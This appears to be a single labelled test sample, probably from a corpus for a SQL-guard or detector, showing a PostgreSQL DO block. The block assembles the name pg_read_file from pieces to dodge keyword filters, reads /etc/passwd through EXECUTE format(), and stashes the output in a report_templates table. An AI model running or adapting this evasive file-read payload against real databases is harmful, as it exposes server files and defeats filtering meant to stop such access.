-- class: regproc-indirection
-- Resolves a file-reading function from a computed name with a regproc cast and calls it through format() and EXECUTE.
DO $$
DECLARE
  fn regproc := ('pg_catalog.pg_' || 'read' || '_file(text)')::regprocedure::oid;
  v text;
BEGIN
  EXECUTE format('SELECT %s(%L)', fn, '/etc/passwd') INTO v;
  INSERT INTO report_templates (name, path) VALUES ('sys', left(v, 200));
END
$$;
